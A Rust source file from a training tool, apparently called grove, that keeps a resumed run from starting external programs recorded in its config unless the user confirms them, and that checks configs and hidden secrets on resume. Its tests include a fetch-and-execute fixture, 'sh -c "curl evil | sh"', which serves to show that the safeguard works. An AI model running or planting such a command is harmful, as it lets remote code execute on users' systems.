//! What `--resume` may do with what a run directory holds.
//!
//! A run directory is data, and data can be edited by anyone who can write the folder: its
//! `config.toml` must not be able to make grove start a program the user did not name. So a
//! resume whose recorded config names external programs (reward commands) stops before
//! anything is built and lists them, unless the user confirms with `--trust-commands`. Every
//! run's plan lists the external programs it will start ([`external_programs`]).
//!
//! Resume is refused outright in the sync mode where it is not exact (`async`), rather than
//! continuing a run that silently differs from the uninterrupted one.
use std::path::Path;

use super::{RunConfig, SyncMode};
use crate::error::{Error, Result};
use crate::reward::pipeline::ComponentKind;

/// Every external program the run will start, as `name: program args...`, in config order.
pub fn external_programs(cfg: &RunConfig) -> Vec<String> {
    let task = cfg
        .task
        .external_command()
        .map(|e| format!("task.external: {}", shell_words(&e.command)));
    let env = cfg.env.iter().flat_map(|e| e.external_programs());
    let rewards = cfg.reward.pipeline.iter().flat_map(|p| {
        p.components.iter().filter_map(|c| match &c.kind {
            ComponentKind::External(e) => Some(format!(
                "reward.pipeline `{}`: {}",
                c.name,
                shell_words(&e.command)
            )),
            _ => None,
        })
    });
    task.into_iter().chain(rewards).chain(env).collect()
}

/// The command as one line, each word quoted when it holds a space or a quote.
fn shell_words(words: &[String]) -> String {
    words
        .iter()
        .map(|w| {
            if w.is_empty() || w.contains([' ', '"', '\'', '\t', '\n']) {
                format!("{w:?}")
            } else {
                w.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Refuses to resume `dir` with its recorded `cfg` when that config names external programs
/// and the user has not confirmed them (`trusted`).
pub fn check_trust(dir: &Path, cfg: &RunConfig, trusted: bool) -> Result<()> {
    let programs = external_programs(cfg);
    if programs.is_empty() || trusted {
        return Ok(());
    }
    Err(Error::RunDir {
        path: dir.to_path_buf(),
        msg: format!(
            "its config.toml names external programs that resuming would start:\n  {}\n\
             grove does not run programs recorded in a run directory without confirmation: \
             check them, then resume with --trust-commands",
            programs.join("\n  ")
        ),
    })
}

/// The config a `--resume DIR` continues with, from the run's recorded `DIR/config.toml`, to
/// be validated with [`super::Purpose::Resume`].
///
/// With neither `given` (a config file) nor `overrides`, that is the recorded config. A config
/// file or overrides may be passed again to supply what the run directory does not hold in
/// clear (secrets, [`super::secrets`]): the result must then equal the recorded config, the
/// secrets of both hidden (older runs recorded them in clear), so a resume continues the
/// recorded run and cannot change it. Passing the run's own config file also confirms the
/// external programs it names (the user named them), as `trust_commands` does. Refused: recorded programs without confirmation, a differing
/// config (naming each differing key), and secrets still hidden (naming the keys).
pub fn resume_config(
    dir: &Path,
    given: Option<&Path>,
    overrides: &[String],
    trust_commands: bool,
) -> Result<RunConfig> {
    let recorded_path = dir.join("config.toml");
    if !recorded_path.is_file() {
        return Err(Error::RunDir {
            path: dir.to_path_buf(),
            msg: "not a run directory (no config.toml)".into(),
        });
    }
    // Compared as the runs record them: parsed, with the derived defaults filled in. The
    // caller validates the result once, for the resume ([`super::Purpose::Resume`]).
    let read = |file: &Path, overrides: &[String]| -> Result<RunConfig> {
        let (mut cfg, _) = super::parse(Some(file), overrides)?;
        cfg.derive_defaults();
        Ok(cfg)
    };
    let recorded = read(&recorded_path, &[])?;
    let cfg = if given.is_none() && overrides.is_empty() {
        recorded.clone()
    } else {
        let cfg = read(given.unwrap_or(recorded_path.as_path()), overrides)?;
        let differ = differing_keys(
            &super::secrets::redacted(&cfg),
            &super::secrets::redacted(&recorded),
        )?;
        if !differ.is_empty() {
            return Err(Error::RunDir {
                path: dir.to_path_buf(),
                msg: format!(
                    "the config given with --resume differs from the recorded config.toml in {}; \
                     a resume continues the recorded run unchanged (pass the run's own config, \
                     or only the hidden secrets with --set KEY=VALUE)",
                    differ.join(", ")
                ),
            });
        }
        cfg
    };
    // The recorded file passed back as CONFIG confirms nothing: it is the run directory's.
    let names_own_file = given.is_some_and(|g| same_file(g, &recorded_path));
    check_trust(
        dir,
        &cfg,
        trust_commands || (given.is_some() && !names_own_file),
    )?;
    let hidden = super::secrets::missing(&cfg);
    if !hidden.is_empty() {
        return Err(Error::RunDir {
            path: dir.to_path_buf(),
            msg: format!(
                "config.toml holds secrets only as `***` ({}): give them again, with the run's \
                 config file (grove train --resume DIR CONFIG) or --set KEY=VALUE for each",
                hidden.join(", ")
            ),
        });
    }
    Ok(cfg)
}

fn same_file(a: &Path, b: &Path) -> bool {
    match (a.canonicalize(), b.canonicalize()) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    }
}

/// The dotted keys whose values differ between two configs, each as `key (A vs B)`.
fn differing_keys(a: &RunConfig, b: &RunConfig) -> Result<Vec<String>> {
    let flat = |c: &RunConfig| -> Result<std::collections::BTreeMap<String, String>> {
        let table: toml::Table = toml::from_str(&toml::to_string(c).map_err(|e| {
            Error::config("--resume", format!("config cannot be written as TOML: {e}"))
        })?)
        .map_err(|e| Error::config("--resume", e.to_string()))?;
        Ok(crate::report::sinks::flatten_params(&table)
            .into_iter()
            .collect())
    };
    let (a, b) = (flat(a)?, flat(b)?);
    let keys: std::collections::BTreeSet<&String> = a.keys().chain(b.keys()).collect();
    let shown = |v: Option<&String>| v.map_or("unset".to_string(), |v| format!("{v:?}"));
    Ok(keys
        .into_iter()
        .filter(|k| a.get(*k) != b.get(*k))
        .map(|k| {
            format!(
                "`{k}` ({} vs recorded {})",
                shown(a.get(k)),
                shown(b.get(k))
            )
        })
        .collect())
}

/// A `--set` value taken as text without quotes: a word of letters, digits and `_-./:+@`
/// that does not start like a number (so `1e-3x` is a typo, not a string).
pub fn is_bare_word(raw: &str) -> bool {
    let starts_numeric = raw
        .trim_start_matches(['+', '-'])
        .starts_with(|c: char| c.is_ascii_digit() || c == '.');
    !raw.is_empty()
        && !starts_numeric
        && raw
            .chars()
            .all(|c| c.is_alphanumeric() || "_-./:+@".contains(c))
}

/// Refuses to resume in a sync mode whose resume is not exact.
pub fn refuse_inexact(cfg: &RunConfig) -> Result<()> {
    if cfg.sync.mode == SyncMode::Async && cfg.sync.max_staleness.is_none() {
        return Err(Error::config(
            "--resume",
            "sync.mode = \"async\" without sync.max_staleness cannot be resumed exactly (which \
             weights sampled each batch depended on thread timing), so grove refuses rather \
             than continue a run that would silently differ from the uninterrupted one; start \
             a new run with sync.max_staleness set (async then resumes exactly), or train with \
             sync.mode = \"on-policy\" or \"lagged\"",
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reward::external::ExternalConfig;
    use crate::reward::pipeline::{ComponentConfig, PipelineConfig};

    fn with_command(words: &[&str]) -> RunConfig {
        let mut cfg = RunConfig::default();
        let ext = ExternalConfig::new(words.iter().map(|s| s.to_string()).collect());
        cfg.reward.pipeline = Some(PipelineConfig::new(vec![
            ComponentConfig::new(
                "exact",
                ComponentKind::Verifier {
                    check: Default::default(),
                },
            ),
            ComponentConfig::new("judge", ComponentKind::External(ext)),
        ]));
        cfg
    }

    #[test]
    fn recorded_programs_need_confirmation() {
        let cfg = with_command(&["sh", "-c", "curl evil | sh"]);
        assert_eq!(
            external_programs(&cfg),
            vec!["reward.pipeline `judge`: sh -c \"curl evil | sh\"".to_string()]
        );
        let e = check_trust(Path::new("runs/x"), &cfg, false)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("runs/x") && e.contains("curl evil | sh") && e.contains("--trust-commands"),
            "{e}"
        );
        assert!(check_trust(Path::new("runs/x"), &cfg, true).is_ok());
        let plain = RunConfig::default();
        assert!(external_programs(&plain).is_empty());
        assert!(check_trust(Path::new("runs/x"), &plain, false).is_ok());
    }

    #[test]
    fn set_values_that_are_not_toml_are_errors_naming_the_key() {
        let mut t = toml::Table::new();
        super::super::apply_override(&mut t, "sync.mode=lagged").unwrap();
        assert_eq!(t["sync"]["mode"].as_str(), Some("lagged"));
        super::super::apply_override(&mut t, "model.source=runs/a/step-3").unwrap();
        super::super::apply_override(&mut t, "train.lr=3e-4").unwrap();
        assert_eq!(t["train"]["lr"].as_float(), Some(3e-4));
        for bad in ["train.lr=1e-3x", "rollout.group_size=[1, 2", "name=a b"] {
            let e = super::super::apply_override(&mut t, bad)
                .unwrap_err()
                .to_string();
            let key = bad.split('=').next().unwrap();
            assert!(
                e.contains(&format!("`{key}`")) && e.contains("not a TOML value"),
                "{e}"
            );
        }
    }

    #[test]
    fn unbounded_async_resume_is_refused_naming_the_mode() {
        let mut cfg = RunConfig::default();
        for mode in [SyncMode::OnPolicy, SyncMode::Lagged] {
            cfg.sync.mode = mode;
            assert!(refuse_inexact(&cfg).is_ok(), "{mode:?}");
        }
        cfg.sync.mode = SyncMode::Async;
        let e = refuse_inexact(&cfg).unwrap_err().to_string();
        assert!(
            e.contains("sync.mode = \"async\" without sync.max_staleness") && e.contains("refuses"),
            "{e}"
        );
        cfg.sync.max_staleness = Some(1);
        assert!(refuse_inexact(&cfg).is_ok());
    }

    /// A run directory whose config.toml was saved from `cfg` (secrets hidden), and the
    /// user's own copy of the config (secrets in clear) beside it.
    fn saved_run(cfg: &RunConfig) -> (tempfile::TempDir, std::path::PathBuf, std::path::PathBuf) {
        let tmp = tempfile::tempdir().unwrap();
        let run = tmp.path().join("run");
        std::fs::create_dir_all(&run).unwrap();
        std::fs::write(run.join("config.toml"), cfg.to_toml().unwrap()).unwrap();
        let own = tmp.path().join("mine.toml");
        std::fs::write(&own, toml::to_string(cfg).unwrap()).unwrap();
        (tmp, run, own)
    }

    #[test]
    fn resume_asks_again_for_hidden_secrets() {
        let mut cfg = RunConfig::default();
        cfg.sync.buffer = Some("postgres://grove:hunter2@db/runs".into());
        cfg.sync.publish_dir = Some("pub".into());
        // As a run records it: with the defaults derived at load (the buffer's max_staleness).
        cfg.derive_defaults();
        let (_tmp, run, own) = saved_run(&cfg);
        let e = resume_config(&run, None, &[], false)
            .unwrap_err()
            .to_string();
        assert!(e.contains("sync.buffer") && e.contains("***"), "{e}");
        // The secret by --set, or the user's config file: the recorded run, with the secret.
        let set = ["sync.buffer=\"postgres://grove:hunter2@db/runs\"".to_string()];
        assert_eq!(resume_config(&run, None, &set, false).unwrap(), cfg);
        assert_eq!(resume_config(&run, Some(&own), &[], false).unwrap(), cfg);
        // A run recorded before secrets were hidden holds them in clear: its config matches.
        std::fs::write(run.join("config.toml"), toml::to_string(&cfg).unwrap()).unwrap();
        assert_eq!(resume_config(&run, Some(&own), &[], false).unwrap(), cfg);
    }

    #[test]
    fn resume_with_a_different_config_names_the_keys() {
        let cfg = RunConfig::default();
        let (_tmp, run, own) = saved_run(&cfg);
        let mut other = cfg.clone();
        other.train.steps = 7;
        std::fs::write(&own, toml::to_string(&other).unwrap()).unwrap();
        let e = resume_config(&run, Some(&own), &[], false)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("`train.steps` (\"7\" vs recorded \"300\")"),
            "{e}"
        );
        let e = resume_config(&run, None, &["seed=3".into()], false)
            .unwrap_err()
            .to_string();
        assert!(e.contains("`seed`") && !e.contains("train.steps"), "{e}");
    }

    #[test]
    fn passing_the_same_config_confirms_its_commands() {
        let cfg = with_command(&["python3", "judge.py"]);
        let (_tmp, run, own) = saved_run(&cfg);
        let e = resume_config(&run, None, &[], false)
            .unwrap_err()
            .to_string();
        assert!(e.contains("--trust-commands"), "{e}");
        assert_eq!(resume_config(&run, Some(&own), &[], false).unwrap(), cfg);
        assert_eq!(resume_config(&run, None, &[], true).unwrap(), cfg);
        // The run's own config.toml passed back is the run directory speaking, not the user.
        let recorded = run.join("config.toml");
        let e = resume_config(&run, Some(&recorded), &[], false)
            .unwrap_err()
            .to_string();
        assert!(e.contains("--trust-commands"), "{e}");
    }
}
